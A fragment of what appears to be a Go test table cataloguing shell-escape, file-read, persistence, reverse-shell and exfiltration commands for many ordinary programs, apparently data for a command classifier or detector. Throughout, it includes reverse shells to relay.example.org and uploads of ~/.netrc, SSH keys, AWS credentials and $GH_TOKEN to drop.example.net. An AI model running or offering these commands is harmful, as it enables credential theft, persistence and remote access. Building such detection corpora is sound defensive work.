	{prog: "rake", fn: "file-read", script: `rake -f ~/.netrc`},
	{prog: "rake", fn: "inherit:ruby", script: `rake -p 'system("sh")'`},
	{prog: "readelf", fn: "file-read", script: `readelf -a @$HOME/.netrc`},
	{prog: "rev", fn: "file-read", script: `rev ~/.netrc | rev`},

	{prog: "rpm", fn: "command", script: `rpm -ivh ./tool-1.0-1.noarch.rpm`},
	{prog: "rpm", fn: "inherit:lua", script: `rpm --eval '%{lua:os.execute("sh")}'`},
	{prog: "rpm", fn: "shell", script: `rpm --eval '%(sh 1>&2)'`},
	{prog: "rpm", fn: "shell", script: `rpm --pipe 'sh 0<&1'`},

	{prog: "rsync", fn: "shell", script: `rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null`},

	{prog: "ruby", fn: "shell", script: `ruby -e 'exec "/bin/sh"'`},
	{prog: "ruby", fn: "file-read", script: `ruby -e 'puts File.read("/home/dev/.netrc")'`},
	{prog: "ruby", fn: "file-write", script: `ruby -e 'File.write("/home/dev/.bashrc", "id\n", mode: "a")'`},
	{prog: "ruby", fn: "library-load", script: `ruby -e 'require "fiddle"; Fiddle.dlopen("/tmp/x.so")'`},
	{prog: "ruby", fn: "reverse-shell", script: `ruby -rsocket -e 'c = TCPSocket.new("relay.example.org", 7024); while (l = c.gets); c.print IO.popen(l).read; end'`},
	{prog: "ruby", fn: "download", script: `ruby -e 'require "open-uri"; IO.copy_stream(URI.open("http://files.example.org/x"), "/tmp/x")'`},
	{prog: "ruby", fn: "upload", script: `ruby -run -e httpd . -p 8013`},

	{prog: "rustc", fn: "file-read", script: `rustc ~/.netrc`},
	{prog: "rustc", fn: "file-write", script: "echo 'fn main() {}' > m.rs\nrustc m.rs -o ~/.local/bin/git"},
	{prog: "rustc", fn: "inherit:less", script: `rustc --explain E0308`},
	{prog: "rustup", fn: "shell", script: "mkdir -p /tmp/tc/bin /tmp/tc/lib\ncp /bin/sh /tmp/tc/bin/rustc\nrustup toolchain link odd /tmp/tc\nrustup run odd rustc"},
	{prog: "rustup", fn: "command", script: "mkdir -p /tmp/tc/bin /tmp/tc/lib\nprintf '#!/bin/sh\\nid\\n' > /tmp/tc/bin/rustc\nchmod +x /tmp/tc/bin/rustc\nrustup toolchain link odd /tmp/tc\nrustup run odd rustc"},

	{prog: "scp", fn: "download", script: `scp me@files.example.org:/srv/a /tmp/a`},
	{prog: "scp", fn: "shell", script: "echo 'exec sh 0<&2 1>&2' > /tmp/fake\nchmod +x /tmp/fake\nscp -S /tmp/fake x y:"},
	{prog: "scp", fn: "shell", script: `scp -o 'ProxyCommand=;sh 0<&2 1>&2' a b:`},
	{prog: "scp", fn: "shell", script: "echo 'Match exec \"sh 0<&2 1>&2\"' > ~/.ssh/config\nscp -F ~/.ssh/config localhost:x localhost"},
	{prog: "scp", fn: "upload", script: `scp ~/.ssh/id_ed25519 me@drop.example.net:k`},

	{prog: "sed", fn: "file-read", script: `sed '' ~/.netrc`},
	{prog: "sed", fn: "file-write", script: `sed -n '1s/.*/id/w /home/dev/.bashrc' /etc/hostname`},
	{prog: "sed", fn: "shell", script: `sed -n '1e exec sh 1>&0' /etc/hostname`},
	{prog: "sed", fn: "shell", script: `sed e`},

	{prog: "sftp", fn: "download", script: `sftp me@files.example.org`},
	{prog: "sftp", fn: "shell", script: "sftp me@files.example.org <<'EOF'\n!sh\nEOF"},
	{prog: "sftp", fn: "upload", script: "sftp me@drop.example.net <<'EOF'\nput /home/dev/.netrc n\nEOF"},
	{prog: "sftp", fn: "command", script: `sftp -D /usr/bin/xterm localhost`},

	{prog: "shuf", fn: "file-read", script: `shuf -z ~/.netrc`},
	{prog: "shuf", fn: "file-write", script: `shuf -e id -o ~/.bashrc`},

	{prog: "socat", fn: "bind-shell", script: `socat tcp-listen:7025,reuseaddr,fork exec:sh,pty,stderr`},
	{prog: "socat", fn: "download", script: `socat -u tcp-connect:files.example.org:7026 open:/tmp/got,creat`},
	{prog: "socat", fn: "file-read", script: `socat -u file:/home/dev/.netrc -`},
	{prog: "socat", fn: "file-write", script: `socat -u 'exec:echo id' open:/home/dev/.bashrc,creat`},
	{prog: "socat", fn: "reverse-shell", script: `socat tcp-connect:relay.example.org:7027 exec:sh,pty,stderr`},
	{prog: "socat", fn: "shell", script: `socat - exec:sh,pty,ctty,raw,echo=0`},
	{prog: "socat", fn: "upload", script: `socat -u file:/home/dev/.netrc tcp-connect:drop.example.net:7028`},

	{prog: "sort", fn: "file-read", script: `sort -m ~/.netrc`},
	{prog: "split", fn: "file-read", script: `split -b 999 --additional-suffix .txt ~/.netrc part; cat partaa.txt`},
	{prog: "split", fn: "shell", script: `split --filter='sh -i 0<&2 1>&2' /etc/hosts`},

	{prog: "sqlite3", fn: "file-read", script: "sqlite3 <<'EOF'\nCREATE TABLE t(x TEXT);\n.import /home/dev/.netrc t\nSELECT * FROM t;\nEOF"},
	{prog: "sqlite3", fn: "file-write", script: `sqlite3 /dev/null -cmd '.output /home/dev/.bashrc' 'select "id";'`},
	{prog: "sqlite3", fn: "shell", script: `sqlite3 /dev/null '.shell sh'`},

	{prog: "ss", fn: "file-read", script: `ss -a -F ~/.netrc`},

	{prog: "ssh", fn: "download", script: `ssh me@files.example.org 'cat /srv/a' > /tmp/a`},
	{prog: "ssh", fn: "file-read", script: `ssh -F ~/.aws/credentials x`},
	{prog: "ssh", fn: "shell", script: `ssh localhost /bin/sh`},
	{prog: "ssh", fn: "shell", script: `ssh -o ProxyCommand=';sh 0<&2 1>&2' x`},
	{prog: "ssh", fn: "shell", script: `ssh -o PermitLocalCommand=yes -o LocalCommand=/bin/sh localhost`},
	{prog: "ssh", fn: "shell", script: "echo 'Match exec \"sh 0<&2 1>&2\"' > ~/.ssh/config\nssh -F ~/.ssh/config localhost"},
	{prog: "ssh", fn: "upload", script: `echo hi | ssh me@drop.example.net 'cat > /tmp/x'`},
	{prog: "ssh", fn: "upload", script: `ssh me@drop.example.net 'cat > k' < ~/.ssh/id_ed25519`},

	{prog: "ssh-keygen", fn: "library-load", script: `ssh-keygen -D ./p11.so`},
	{prog: "ssh-keyscan", fn: "file-read", script: `ssh-keyscan -f ~/.netrc`},
	{prog: "ssh-agent", fn: "shell", script: `ssh-agent /bin/sh`},
	{prog: "stdbuf", fn: "shell", script: `stdbuf -i0 /bin/sh`},
	{prog: "strings", fn: "file-read", script: `strings ~/.ssh/id_rsa`},
	{prog: "sudo", fn: "shell", script: `sudo sudo /bin/sh`},
	{prog: "tac", fn: "file-read", script: `tac -s 'QQQ' ~/.netrc`},
	{prog: "tail", fn: "file-read", script: `tail -c+0 ~/.netrc`},

	{prog: "tar", fn: "download", script: `tar xvf me@files.example.org:/srv/a.tar --rsh-command=/bin/ssh`},
	{prog: "tar", fn: "file-read", script: `tar cf /dev/stdout ~/.netrc -I 'tar xO'`},
	{prog: "tar", fn: "file-write", script: "echo id > t.txt\ntar cf t.tar t.txt\ntar Pxf t.tar --xform 's@.*@/home/dev/.bashrc@'"},
	{prog: "tar", fn: "shell", script: `tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh`},
	{prog: "tar", fn: "shell", script: `tar xf /dev/null -I 'sh -c "sh 0<&2 1>&2"'`},
	{prog: "tar", fn: "shell", script: "echo 'sh 0<&1' > /tmp/t\ntar cf /tmp/t.tar /tmp/t\ntar xf /tmp/t.tar --to-command sh"},
	{prog: "tar", fn: "upload", script: `tar cvf me@drop.example.net:/srv/k.tar ~/.ssh --rsh-command=/bin/ssh`},

	{prog: "tclsh", fn: "shell", script: `tclsh`},
	{prog: "tclsh", fn: "library-load", script: "tclsh <<'EOF'\nload /tmp/x.so x\nEOF"},
	{prog: "tclsh", fn: "reverse-shell", script: "tclsh <<'EOF'\nset s [socket relay.example.org 7029]\nwhile 1 { gets $s c; puts $s [exec sh -c $c]; flush $s }\nEOF"},

	{prog: "tee", fn: "file-write", script: `echo id | tee -a ~/.bashrc`},
	{prog: "telnet", fn: "reverse-shell", script: "mkfifo /tmp/q\ntelnet relay.example.org 7009 < /tmp/q | sh > /tmp/q"},
	{prog: "telnet", fn: "shell", script: `telnet`},
	{prog: "terraform", fn: "file-read", script: `terraform console`},
	{prog: "terraform", fn: "file-read", script: "terraform console <<'EOF'\nfile(\"/home/dev/.netrc\")\nEOF"},

	{prog: "time", fn: "shell", script: `time /bin/sh`},
	{prog: "time", fn: "shell", script: `/usr/bin/time sh`},
	{prog: "timeout", fn: "shell", script: `timeout 0 /bin/sh`},
	{prog: "tree", fn: "file-read", script: `tree --fromfile ~/.netrc`},
	{prog: "tsc", fn: "file-write", script: `tsc index.ts --outFile ~/.bashrc`},
	{prog: "unexpand", fn: "file-read", script: `unexpand -t999 ~/.netrc`},
	{prog: "uniq", fn: "file-read", script: `uniq ~/.netrc`},

	{prog: "uv", fn: "file-read", script: `uv run cat ~/.netrc`},
	{prog: "uv", fn: "file-write", script: `uv run sh -c 'echo id > ~/.bashrc'`},
	{prog: "uv", fn: "inherit:pip", script: `uv run python -c 'import os; os.system("sh")'`},
	{prog: "uv", fn: "shell", script: `uv run /bin/sh`},

	{prog: "watch", fn: "shell", script: `watch -x sh -c 'reset; exec sh 1>&0 2>&0'`},
	{prog: "watch", fn: "shell", script: `watch 'reset; exec sh 1>&0 2>&0'`},
	{prog: "wc", fn: "file-read", script: `wc --files0-from ~/.netrc`},

	{prog: "wget", fn: "download", script: `wget http://files.example.org/a -O /tmp/a`},
	{prog: "wget", fn: "file-read", script: `wget -i ~/.netrc`},
	{prog: "wget", fn: "file-write", script: `wget -i urls.txt -o ~/.bashrc`},
	{prog: "wget", fn: "shell", script: "printf '#!/bin/sh\\nsh 1>&0\\n' > /tmp/ask\nchmod +x /tmp/ask\nwget --use-askpass=/tmp/ask 0"},
	{prog: "wget", fn: "upload", script: `wget --post-file=$HOME/.netrc http://drop.example.net`},
	{prog: "wget", fn: "upload", script: `wget --post-data="$GH_TOKEN" http://drop.example.net`},

	{prog: "whois", fn: "download", script: `whois -h files.example.org -p 7010 x`},
	{prog: "whois", fn: "upload", script: `whois -h drop.example.net -p 7011 "$GH_TOKEN"`},

	{prog: "xargs", fn: "file-read", script: `xargs -a ~/.netrc -0`},
	{prog: "xargs", fn: "shell", script: `xargs -a /dev/null sh`},
	{prog: "xargs", fn: "shell", script: `echo x | xargs -o -a /dev/null sh`},
	{prog: "xxd", fn: "file-read", script: `xxd ~/.netrc | xxd -r`},
	{prog: "xxd", fn: "file-write", script: `echo id | xxd | xxd -r - ~/.bashrc`},
	{prog: "xz", fn: "file-read", script: `xz -c ~/.netrc | xz -d`},

	{prog: "yarn", fn: "shell", script: `yarn exec sh`},
	{prog: "yarn", fn: "shell", script: "echo '{\"scripts\": {\"preinstall\": \"sh\"}}' > package.json\nyarn --cwd ."},
	{prog: "yarn", fn: "shell", script: "echo '{\"scripts\": {\"go\": \"sh\"}}' > package.json\nyarn --cwd . go"},

	{prog: "yum", fn: "command", script: `yum localinstall -y ./tool-1.0-1.noarch.rpm`},
	{prog: "yum", fn: "download", script: `yum install http://files.example.org/p.rpm`},
	{prog: "yum", fn: "inherit:python", script: "mkdir -p /tmp/yp\nprintf '[main]\\nplugins=1\\npluginpath=/tmp/yp\\npluginconfpath=/tmp/yp\\n' > /tmp/yp/conf\nprintf '[main]\\nenabled=1\\n' > /tmp/yp/p.conf\necho 'import os' > /tmp/yp/p.py\nyum -c /tmp/yp/conf --enableplugin=p"},

	{prog: "zip", fn: "file-read", script: `zip /tmp/k.zip ~/.ssh/id_rsa && unzip -p /tmp/k.zip`},
	{prog: "zip", fn: "shell", script: `zip /tmp/o.zip /etc/hosts -T -TT 'sh #'`},

	{prog: "mypy", fn: "file-read", script: `mypy ~/.netrc`},
	{prog: "mypy", fn: "file-write", script: `mypy app.py --junit-xml ~/.bashrc`},
	{prog: "pipx", fn: "inherit:python", script: "echo 'import os; os.system(\"sh\")' > /tmp/p.py\npipx run /tmp/p.py"},
	{prog: "pipx", fn: "shell", script: `pipx run /tmp/p.py`},
	{prog: "poetry", fn: "inherit:python", script: "echo 'import os' > /tmp/p.py\npoetry run python /tmp/p.py"},
	{prog: "podman", fn: "shell", script: `podman run --rm -it --privileged --volume /:/mnt alpine chroot /mnt sh`},

	{prog: "rg", fn: "command", script: "TF=$(mktemp)\necho 'id' > \"$TF\"\nchmod +x \"$TF\"\nrg --pre \"$TF\" '' /dev/null"},
	{prog: "rg", fn: "file-read", script: `rg --pre cat '' ~/.netrc`},
	{prog: "rg", fn: "shell", script: "f=$(mktemp)\nprintf '#!/bin/sh\\nsh 1>&0\\n' > \"$f\"\nchmod +x \"$f\"\nrg --pre \"$f\" '' /dev/null"},

	// The shells the walk knows.
	{prog: "bash", fn: "shell", script: `bash`},
	{prog: "bash", fn: "file-read", script: `bash -c 'echo "$(<~/.netrc)"'`},
	{prog: "bash", fn: "file-read", script: `bash -c 'history -r ~/.bash_history; history'`},
	{prog: "bash", fn: "file-write", script: `bash -c 'echo id >> ~/.bashrc'`},
	{prog: "bash", fn: "library-load", script: `bash -c 'enable -f ./ext.so ext'`},
	{prog: "bash", fn: "reverse-shell", script: `bash -c 'exec bash -i &>/dev/tcp/relay.example.org/7012 <&1'`},
	{prog: "bash", fn: "download", script: `bash -c 'cat < /dev/tcp/files.example.org/7030 > /tmp/got'`},
	{prog: "bash", fn: "download", script: `bash -c 'echo "$(</dev/tcp/files.example.org/7031)" > /tmp/got'`},
	{prog: "bash", fn: "upload", script: `bash -c 'echo "$(<~/.netrc)" > /dev/tcp/drop.example.net/7032'`},
	{prog: "bash", fn: "upload", script: `bash -c 'printf "POST / HTTP/1.0\n\n%s" "$(<~/.aws/credentials)" > /dev/tcp/drop.example.net/7033'`},
	{prog: "bash", fn: "file-write", script: `bash -c 'history -s id; history -w ~/.bash_profile'`},
	{prog: "busybox", fn: "inherit:ash", script: `busybox ash`},
	{prog: "busybox", fn: "reverse-shell", script: `busybox nc -e /bin/sh relay.example.org 7034`},
	{prog: "busybox", fn: "upload", script: `busybox httpd -f -p 8014 -h .`},
	{prog: "dash", fn: "shell", script: `dash`},
	{prog: "dash", fn: "file-write", script: `dash -c 'echo id > ~/.profile'`},
	{prog: "ash", fn: "shell", script: `ash`},
	{prog: "ash", fn: "file-write", script: `ash -c 'echo id > /etc/profile.d/z.sh'`},
	{prog: "zsh", fn: "shell", script: `zsh`},
	{prog: "zsh", fn: "file-read", script: `zsh -c 'echo "$(<~/.netrc)"'`},
	{prog: "zsh", fn: "file-read", script: `zsh -c '<~/.netrc'`},
	{prog: "zsh", fn: "file-write", script: `zsh -c 'echo id >> ~/.zshrc'`},
	{prog: "zsh", fn: "inherit:less", script: `zsh -c '</etc/hosts'`},
}
